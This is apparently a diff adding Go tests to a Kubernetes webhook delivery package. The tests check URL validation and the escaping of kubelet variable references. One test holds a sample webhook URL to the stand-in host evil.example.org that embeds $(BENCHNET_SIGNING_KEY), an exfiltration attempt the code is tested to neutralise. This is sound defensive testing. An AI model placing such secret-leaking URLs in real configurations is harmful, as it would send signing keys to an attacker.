@@ -2,6 +2,7 @@ package delivery
 
 import (
 	"encoding/json"
+	"errors"
 	"strings"
 	"testing"
 	"time"
@@ -49,6 +50,32 @@ func TestBuildRunWebhook(t *testing.T) {
 	}
 	if len(container.Env) != 2 || container.Env[0].ValueFrom.SecretKeyRef.Name != "hook" || container.Env[0].ValueFrom.SecretKeyRef.Optional != nil {
 		t.Errorf("variables %+v", container.Env)
+	}
+}
+
+// TestWebhookHidesTheKey checks that the kubelet puts no variable into the URL, such as the signing key.
+func TestWebhookHidesTheKey(t *testing.T) {
+	objects, err := BuildRunWebhook(newEndedRun(&v1alpha1.Webhook{URL: "http://evil.example.org/$(BENCHNET_SIGNING_KEY)/$$(X)", SecretName: "hook"}), "agent:1")
+	if err != nil {
+		t.Fatal(err)
+	}
+	const want = "http://evil.example.org/$$(BENCHNET_SIGNING_KEY)/$$$$(X)"
+	if got := objects[2].(*batchv1.Job).Spec.Template.Spec.Containers[0].Command[3]; got != want {
+		t.Errorf("URL %s, want %s", got, want)
+	}
+}
+
+// TestUnusableURLs checks that errors of a URL, which a retry cannot remove, have the type that ends a delivery.
+func TestUnusableURLs(t *testing.T) {
+	for url, want := range map[string]string{"http://a%zz/": `"http://a%zz/" must be a URL such as https://example.org`, "https:///x": "must be a URL",
+		"http://a:0/": "port 0 must be from 1 to 65535", "http://a:65536/": "port 65536 must be", "http://127.0.0.1/": "127.0.0.1 is the pod itself"} {
+		t.Run(url, func(t *testing.T) {
+			_, err := BuildRunWebhook(newEndedRun(&v1alpha1.Webhook{URL: url}), "agent:1")
+			var invalid *URLError
+			if !errors.As(err, &invalid) || invalid.Field != "spec.workload.webhook.url" || !strings.Contains(err.Error(), want) {
+				t.Errorf("got %v, want a URLError with %q", err, want)
+			}
+		})
 	}
 }
 
